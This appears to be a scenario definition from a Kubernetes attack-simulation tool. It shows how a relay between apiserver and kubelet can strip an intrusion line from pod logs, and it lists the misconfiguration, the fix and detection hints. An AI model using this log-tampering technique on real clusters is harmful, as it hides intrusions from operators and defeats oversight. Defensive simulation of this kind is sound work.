import { createObjects } from '../create-workloads';
import { clusterOfOpenKubelets, relayToKubelet } from './relay-to-kubelet';
import type { Scenario } from './scenario';

export const logsRewritten: Scenario = {
  id: 'logs-rewritten',
  title: 'a log that is edited while it is read',
  story:
    'Somebody breaks into a pod, and the pod’s log says so. A machine between the apiserver and the node passes everything on to the genuine kubelet, and takes out that one line: what an operator reads, and what a collector that asks the apiserver stores, was never written so. The file on the node stays as it is; nobody looks there.',
  needs:
    'A place on the path between apiserver and node, and a kubelet that answers whoever asks (the relay has no client certificate).',
  evidence: 'The container’s own file has the line; what kubectl logs printed through the relay has not.',
  setting: {
    name: '--kubelet-certificate-authority',
    open: 'unset (the default): the apiserver believes whatever certificate it is shown',
    fixed: 'the cluster’s CA: whoever is dialled must show a certificate for that address',
  },
  notice:
    'kubectl logs and the file under /var/log/pods on the node differ: compare them, or collect logs on the nodes, not through the apiserver. The kubelet sees the requests come from another address than the apiserver’s, by system:anonymous; the apiserver’s neighbour table has the attacker’s hardware address for the node.',
  sources: [
    'pkg/registry/core/pod/strategy.go (LogLocation)',
    'pkg/kubelet/client/kubelet_client.go (MakeTransport)',
    'kubernetes.io, "Control plane to node communication"',
  ],
  async play(stage, twin) {
    const { signal } = stage;
    const cluster = await clusterOfOpenKubelets(stage, twin);
    const intruder = `10.9.8.7-${stage.random.hex(4)}`;
    const lines = ['ready', `login as root from ${intruder}`, 'GET /health 200'];
    const script = `${lines.map((line) => `echo '${line}'`).join('; ')}; sleep 3600`;
    const container = { name: 'shop', image: 'midplane/shell', command: ['sh', '-c', script] };
    const object = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'shop-1', namespace: 'default' },
      spec: { nodeName: 'node-1', containers: [container] },
    };
    await createObjects(cluster.admin, [{ path: '/api/v1/namespaces/default/pods', object }]);
    await cluster.whenRunning('node-1', 'default', 'shop-1');
    const read = 'kubectl logs shop-1';
    const before = await cluster.admin.logs({ namespace: 'default', pod: 'shop-1', signal });
    await stage.did('admin', read, oneLine(before.stdout));

    const attack = await relayToKubelet(stage, cluster, [
      { kind: 'replace', stream: 'logs', match: '/^login as root from .*\\n/', with: '' },
    ]);
    await stage.did(
      'attacker',
      'midplane attack --path logs --technique relay --rule \'replace: {stream: logs, match: …, with: ""}\'',
      'is at the node’s address, as far as the apiserver knows',
    );
    const after = await cluster.admin.logs({ namespace: 'default', pod: 'shop-1', signal });
    const log = oneLine(after.stdout);
    if (!after.ok) return stage.refused('admin', read, after.words);
    const answered = attack.loot.down().includes(intruder);
    if (!answered) throw new Error('the log did not come through the attacker');
    if (log.includes(intruder)) await stage.refused('admin', read, log);
    else await stage.gained('admin', read, log, 'the say in what the log does not say');
  },
};

function oneLine(log: Buffer): string {
  return log.toString('utf8').trim().replaceAll('\n', ' | ');
}
